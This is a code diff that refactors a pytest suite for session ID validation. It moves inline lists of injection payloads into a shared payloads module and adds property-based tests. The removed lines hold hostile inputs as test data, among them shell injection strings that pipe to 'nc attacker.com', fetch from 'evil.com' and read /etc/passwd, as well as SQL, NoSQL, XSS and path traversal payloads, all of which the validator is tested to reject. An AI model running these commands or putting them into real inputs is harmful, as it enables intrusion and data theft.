@@ -9,28 +9,33 @@ These tests verify that the session ID validation properly prevents:
 """
 
 import pytest
+from hypothesis import given, settings, strategies as st
 
 from masterclaw_core.security import validate_session_id, is_valid_session_id, VALID_SESSION_ID_PATTERN
+from tests._payloads import (
+    PATH_TRAVERSAL_PAYLOADS,
+    SPECIAL_CHAR_PAYLOADS,
+    SQL_INJECTION_PAYLOADS,
+    COMMAND_INJECTION_PAYLOADS,
+    NOSQL_INJECTION_PAYLOADS,
+    XSS_PAYLOADS,
+    DIRECTORY_TRAVERSAL_PAYLOADS,
+)
 
 
 class TestSessionIdValidation:
     """Test suite for session ID validation security hardening"""
     
     def test_valid_session_ids(self):
-        """Test that valid session IDs pass validation"""
-        valid_ids = [
-            "abc123",
-            "session_123",
-            "my-session",
-            "a",
-            "A1B2C3",
-            "user_123_session_456",
-            "a" * 64,  # Max length
-        ]
-        
-        for session_id in valid_ids:
-            result = validate_session_id(session_id)
-            assert result == session_id
+        """Test that canonical valid session IDs pass validation"""
+        for session_id in ("abc123", "my-session", "a" * 64):
+            assert validate_session_id(session_id) == session_id
+    
+    @given(st.from_regex(VALID_SESSION_ID_PATTERN, fullmatch=True))
+    @settings(max_examples=50, deadline=None)
+    def test_generated_valid_session_ids(self, session_id):
+        """Test that any string matching the pattern passes validation"""
+        assert validate_session_id(session_id) == session_id
     
     def test_empty_session_id(self):
         """Test that empty session ID raises ValueError"""
@@ -65,57 +70,19 @@ class TestSessionIdValidation:
         
         assert "length" in str(exc_info.value).lower() or "64" in str(exc_info.value)
     
-    def test_session_id_with_path_traversal(self):
+    @pytest.mark.parametrize("session_id", PATH_TRAVERSAL_PAYLOADS)
+    def test_session_id_with_path_traversal(self, session_id):
         """Test that path traversal in session ID raises ValueError"""
-        malicious_ids = [
-            "../etc/passwd",
-            "..\\windows\\system32",
-            "session/../other",
-            "..hidden",
-            "path/subpath",
-            "path\\subpath",
-        ]
+        with pytest.raises(ValueError) as exc_info:
+            validate_session_id(session_id)
         
-        for session_id in malicious_ids:
-            with pytest.raises(ValueError) as exc_info:
-                validate_session_id(session_id)
-            
-            assert "path traversal" in str(exc_info.value).lower() or "invalid" in str(exc_info.value).lower()
+        assert "path traversal" in str(exc_info.value).lower() or "invalid" in str(exc_info.value).lower()
     
-    def test_session_id_with_special_characters(self):
+    @pytest.mark.parametrize("session_id", SPECIAL_CHAR_PAYLOADS)
+    def test_session_id_with_special_characters(self, session_id):
         """Test that special characters in session ID raises ValueError"""
-        malicious_ids = [
-            "session;rm -rf /",
-            "session|cat /etc/passwd",
-            "session`whoami`",
-            "session$(echo hacked)",
-            "session\nnewlines",
-            "session\ttabs",
-            "session@symbol",
-            "session#hash",
-            "session$variable",
-            "session&ampersand",
-            "session*asterisk",
-            "session(paren)",
-            "session[bracket]",
-            "session{brace}",
-            "session<less>",
-            "session>greater",
-            "session=equals",
-            "session+plus",
-            "session?question",
-            "session!exclaim",
-            "session'quote",
-            'session"double',
-            "session.dot",  # Dots should be rejected
-            "session space",
-        ]
-        
-        for session_id in malicious_ids:
-            with pytest.raises(ValueError) as exc_info:
-                validate_session_id(session_id)
-            
-            assert exc_info.value is not None  # Just verify it raises
+        with pytest.raises(ValueError):
+            validate_session_id(session_id)
     
     def test_session_id_unicode(self):
         """Test that unicode characters in session ID raises ValueError"""
@@ -134,104 +101,79 @@ class TestSessionIdValidation:
     def test_valid_session_id_pattern(self):
         """Test the VALID_SESSION_ID_PATTERN regex directly"""
         # Should match
-        assert VALID_SESSION_ID_PATTERN.match("abc123")
-        assert VALID_SESSION_ID_PATTERN.match("my-session_123")
-        assert VALID_SESSION_ID_PATTERN.match("A_B-C")
+        assert VALID_SESSION_ID_PATTERN.fullmatch("abc123")
+        assert VALID_SESSION_ID_PATTERN.fullmatch("my-session_123")
+        assert VALID_SESSION_ID_PATTERN.fullmatch("A_B-C")
         
         # Should not match
-        assert not VALID_SESSION_ID_PATTERN.match("abc.123")  # Dot
-        assert not VALID_SESSION_ID_PATTERN.match("abc 123")  # Space
-        assert not VALID_SESSION_ID_PATTERN.match("abc/123")  # Slash
-        assert not VALID_SESSION_ID_PATTERN.match("")  # Empty
-        assert not VALID_SESSION_ID_PATTERN.match("a" * 65)  # Too long
-        assert not VALID_SESSION_ID_PATTERN.match("session@email")  # @ symbol
+        assert not VALID_SESSION_ID_PATTERN.fullmatch("abc.123")  # Dot
+        assert not VALID_SESSION_ID_PATTERN.fullmatch("abc 123")  # Space
+        assert not VALID_SESSION_ID_PATTERN.fullmatch("abc/123")  # Slash
+        assert not VALID_SESSION_ID_PATTERN.fullmatch("")  # Empty
+        assert not VALID_SESSION_ID_PATTERN.fullmatch("a" * 65)  # Too long
+        assert not VALID_SESSION_ID_PATTERN.fullmatch("session@email")  # @ symbol
+        assert not VALID_SESSION_ID_PATTERN.fullmatch("abc123\n")  # Trailing newline
+    
+    def test_session_id_trailing_newline(self):
+        """Test that a trailing newline is rejected (a '$'-anchored match would allow it)"""
+        with pytest.raises(ValueError):
+            validate_session_id("session\n")
+        assert is_valid_session_id("session\n") is False
 
 
 class TestIsValidSessionId:
     """Test suite for is_valid_session_id convenience function"""
     
-    def test_valid_returns_true(self):
+    @pytest.mark.parametrize("session_id", [
+        pytest.param("valid-id", id="hyphen"),
+        pytest.param("abc123", id="alnum"),
+        pytest.param("user_session", id="underscore"),
+    ])
+    def test_valid_returns_true(self, session_id):
         """Test that valid session IDs return True"""
-        assert is_valid_session_id("valid-id") is True
-        assert is_valid_session_id("abc123") is True
-        assert is_valid_session_id("user_session") is True
-    
-    def test_invalid_returns_false(self):
+        assert is_valid_session_id(session_id) is True
+    
+    @pytest.mark.parametrize("session_id", [
+        pytest.param("../etc/passwd", id="traversal"),
+        pytest.param("session;command", id="semicolon"),
+        pytest.param("", id="empty"),
+        pytest.param(None, id="none"),
+        pytest.param(123, id="int"),
+    ])
+    def test_invalid_returns_false(self, session_id):
         """Test that invalid session IDs return False"""
-        assert is_valid_session_id("../etc/passwd") is False
-        assert is_valid_session_id("session;command") is False
-        assert is_valid_session_id("") is False
-        assert is_valid_session_id(None) is False
-        assert is_valid_session_id(123) is False
+        assert is_valid_session_id(session_id) is False
 
 
 class TestSessionIdSecurityScenarios:
     """Security-focused test scenarios for session ID validation"""
     
-    def test_sql_injection_attempt(self):
+    @pytest.mark.parametrize("payload", SQL_INJECTION_PAYLOADS)
+    def test_sql_injection_attempt(self, payload):
         """Test that SQL injection patterns are rejected"""
-        sql_injection_attempts = [
-            "session'; DROP TABLE memories; --",
-            "session' OR '1'='1",
-            "session'; DELETE FROM sessions; --",
-            "session\"; INSERT INTO users",
-        ]
-        
-        for attempt in sql_injection_attempts:
-            with pytest.raises(ValueError):
-                validate_session_id(attempt)
+        with pytest.raises(ValueError):
+            validate_session_id(payload)
     
-    def test_command_injection_attempt(self):
+    @pytest.mark.parametrize("payload", COMMAND_INJECTION_PAYLOADS)
+    def test_command_injection_attempt(self, payload):
         """Test that command injection patterns are rejected"""
-        command_injection_attempts = [
-            "session; cat /etc/passwd",
-            "session && rm -rf /",
-            "session | nc attacker.com 1337",
-            "session`curl evil.com`",
-            "session$(wget malicious.sh)",
-        ]
-        
-        for attempt in command_injection_attempts:
-            with pytest.raises(ValueError):
-                validate_session_id(attempt)
+        with pytest.raises(ValueError):
+            validate_session_id(payload)
     
-    def test_nosql_injection_attempt(self):
+    @pytest.mark.parametrize("payload", NOSQL_INJECTION_PAYLOADS)
+    def test_nosql_injection_attempt(self, payload):
         """Test that NoSQL injection patterns are rejected"""
-        nosql_attempts = [
-            '{"$gt": ""}',
-            '{"$ne": null}',
-            '{"$where": "this.password.length > 0"}',
-        ]
-        
-        for attempt in nosql_attempts:
-            with pytest.raises(ValueError):
-                validate_session_id(attempt)
+        with pytest.raises(ValueError):
+            validate_session_id(payload)
     
-    def test_xss_attempt(self):
+    @pytest.mark.parametrize("payload", XSS_PAYLOADS)
+    def test_xss_attempt(self, payload):
         """Test that XSS patterns are rejected"""
-        xss_attempts = [
-            "<script>alert('xss')</script>",
-            "session<img src=x onerror=alert(1)>",
-            "session'onmouseover='alert(1)",
-            "session\\\" onfocus=alert(1) autofocus=\\\"",
-        ]
-        
-        for attempt in xss_attempts:
-            with pytest.raises(ValueError):
-                validate_session_id(attempt)
+        with pytest.raises(ValueError):
+            validate_session_id(payload)
     
-    def test_directory_traversal_variants(self):
+    @pytest.mark.parametrize("payload", DIRECTORY_TRAVERSAL_PAYLOADS)
+    def test_directory_traversal_variants(self, payload):
         """Test various directory traversal patterns are rejected"""
-        traversal_attempts = [
-            "../../../etc/passwd",
-            "....//....//....//etc/passwd",
-            "..\\..\\..\\windows\\system32",
-            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd",
-            "..%2f..%2f..%2fetc/passwd",
-            ".../.../.../etc/passwd",
-            "session/../../../etc/passwd",
-        ]
-        
-        for attempt in traversal_attempts:
-            with pytest.raises(ValueError):
-                validate_session_id(attempt)
+        with pytest.raises(ValueError):
+            validate_session_id(payload)